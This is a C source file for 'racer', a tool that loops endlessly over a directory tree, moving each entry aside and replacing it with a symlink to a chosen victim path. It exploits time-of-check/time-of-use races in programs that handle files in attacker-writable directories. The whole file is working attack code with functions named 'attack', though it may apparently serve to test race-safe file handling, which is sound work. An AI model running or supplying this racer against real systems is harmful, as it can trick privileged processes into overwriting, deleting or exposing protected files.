/* racer DIRECTORY VICTIM: whatever appears in DIRECTORY, or in a directory below it, is taken away and a link to
   VICTIM put in its place, as fast as it goes. Says "swapped" once it has done so. */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static unsigned turn;
static int said;

static void attack(int at, const char *name, const char *victim, int depth)
{
    char aside[300];
    int fd = openat(at, name, O_RDONLY | O_DIRECTORY);
    if (fd < 0)
        return;
    DIR *directory = fdopendir(fd);
    struct dirent *entry;
    while (directory && (entry = readdir(directory))) {
        const char *found = entry->d_name;
        if (found[0] == '.' && (!found[1] || (found[1] == '.' && !found[2])))
            continue;
        if (entry->d_type == DT_LNK) {
            /* Ours, from before: the next one may come. */
            if (turn++ % 16 == 0)
                unlinkat(fd, found, 0);
            continue;
        }
        if (strncmp(found, "aside", 5) == 0)
            continue;
        /* A directory of our own may be gone into first: there is more to get in it. */
        if (entry->d_type == DT_DIR && depth < 2 && turn++ % 2)
            attack(fd, found, victim, depth + 1);
        snprintf(aside, sizeof aside, "aside%u", turn++ % 8);
        if (entry->d_type != DT_DIR)
            unlinkat(fd, aside, 0);
        if (renameat(fd, found, fd, aside) == 0 && symlinkat(victim, fd, found) == 0 && !said++) {
            puts("swapped");
            fflush(stdout);
        }
    }
    if (directory)
        closedir(directory);
}

int main(int argc, char **argv)
{
    (void)argc;
    for (;;)
        attack(AT_FDCWD, argv[1], argv[2], 0);
}
